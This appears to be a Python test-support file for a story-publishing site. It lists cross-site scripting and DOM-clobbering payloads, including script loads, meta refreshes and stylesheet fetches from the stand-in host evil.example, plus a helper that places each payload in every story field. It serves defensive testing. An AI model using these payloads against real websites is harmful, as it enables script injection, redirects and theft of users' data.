"""What strangers might write to do harm, as text for any field and as Markdown for the body.

Each one tries to set `window.pwned`, to load something from elsewhere, or to take over a name
that scripts of the page could look up.
"""

from __future__ import annotations

import json

from tests.support.project import story_text

PAYLOADS = (
    # Scripts, and elements that run one.
    "<script>pwned=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script type=module>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<img/src='x'/onerror='window.pwned=1'>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<math><mtext><style><img src=x onerror=pwned=1></style>",
    "<details open ontoggle=window.pwned=1>a</details>",
    "<b onmouseover=window.pwned=1 tabindex=0>hover</b>",
    "<input autofocus onfocus=window.pwned=1>",
    "<iframe srcdoc='<script>top.pwned=1</script>'></iframe>",
    "<object data='javascript:pwned=1'></object>",
    "<video><source onerror=window.pwned=1></video>",
    "<body onload=window.pwned=1>",
    "<p style='animation:x' onanimationstart=pwned=1>a</p>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "<a href='javascript:pwned=1' autofocus>click</a>",
    # The end of what the text stands in.
    "</title><script>pwned=1</script>",
    "</textarea></style><img src=x onerror=pwned=1>",
    "</article></main></body><script>pwned=1</script>",
    "--><script>pwned=1</script><!--",
    "]]><script>pwned=1</script>",
    '"><img src=x onerror=pwned=1>',
    "'><img src=x onerror=pwned=1>",
    '" onmouseover="pwned=1" autofocus onfocus="pwned=1',
    "' onmouseover='pwned=1' x='",
    "` onmouseover=pwned=1 `",
    '\\"};window.pwned=1;//',
    # Attributes that scripts of Material's kind use, and names that replace variables.
    "<b title='<img src=x onerror=pwned=1>'>hover</b>",
    '<p title="&lt;img src=x onerror=pwned=1&gt;">hover</p>',
    "<a id=__config href=#>{}</a>",
    '<p id=__config>{"base":"//evil.example"}</p>',
    "<form id=form name=form action=//evil.example><input name=a>",
    "<img name=getElementById><img name=querySelector src=x>",
    "<li id=__proto__><a id=location name=location>a</a></li>",
    "<p class='copy-link scheme-toggle' data-address=x>a</p>",
    "<p style='position:fixed;inset:0;background:red'>a</p>",
    "<style>body{background:url(//evil.example/a)}</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "a[^__config]\n\n[^__config]: b",
    "a[^__proto__] b[^form]\n\n[^__proto__]: c\n\n[^form]: d",
    'a[^"onmouseover=pwned=1]\n\n[^"onmouseover=pwned=1]: b',
    # Addresses.
    "[a](javascript:pwned=1)",
    "[a](JaVaScRiPt:pwned=1)",
    "[a](javascript&colon;pwned=1)",
    "[a](&#x6a;avascript:pwned=1)",
    "[a](java&Tab;script:pwned=1)",
    "[a](<java\tscript:pwned=1>)",
    "[a](\\x01javascript:pwned=1)",
    "[a](data:text/html,<script>pwned=1</script>)",
    "[a](vbscript:pwned)",
    "<javascript:pwned=1>",
    '[a](https://a.example/"onmouseover="pwned=1)',
    "[a](https://a.example 'on\" onfocus=\"pwned=1')",
    "[a]: javascript:pwned=1 'title'\n\n[a]",
    "[a](//evil.example/a)",
    "![a](https://evil.example/a.png)",
    "![a](//evil.example/a.png)",
    '![" onerror="pwned=1](images/a.png)',
    "![a](images/a.png 'a\" onload=\"pwned=1')",
    '![a](images/a.png" onload="pwned=1)',
    "<a href=https://a.example ping=//evil.example>a</a>",
    "<img src=images/a.png srcset=//evil.example/a.png>",
    # Text that only looks dangerous.
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=pwned=1&#62;",
    "{{ 7 * 7 }} {% include 'main.html' %} {# x #}",
    "${window.pwned=1} #{x} <%= x %> [[x]]",
    '--8<-- "mkdocs.yml"',
    ":smile: :material-heart: :fontawesome-brands-x:",
    "a { .copy-link #__config onclick=pwned=1 }",
    "\u05d0\u200f a \u061c b \u200e c",
    "W" * 60,
    "\U0001fae6" * 20 + "\u0301" * 20,
    "**a** _b_ `c` ~~d~~ # e",
)
"""No longer than the shortest text field."""


def in_every_field(text: str) -> str:
    """A story with `text` in every field that takes any text."""
    quoted = json.dumps(text, ensure_ascii=False)
    source = "".join(f"{name}: {quoted}, " for name in ("title", "author", "year", "note"))
    address = "".join(text.split()).translate({ord(one): None for one in '<>"\\'})
    url = json.dumps(f"https://a.example/?{address}", ensure_ascii=False)
    # The year is the shortest.
    source = source.replace(f"year: {quoted}", f"year: {json.dumps(text[:40], ensure_ascii=False)}")
    return story_text(
        "A good text.",
        voice="retold",
        consent="",
        **dict.fromkeys(("title", "teller", "when", "where", "summary", "try_this"), quoted),
        source=f"{{{source}url: {url}}}",
        image=f"{{src: a.png, alt: {quoted}, credit: {quoted}}}",
    )
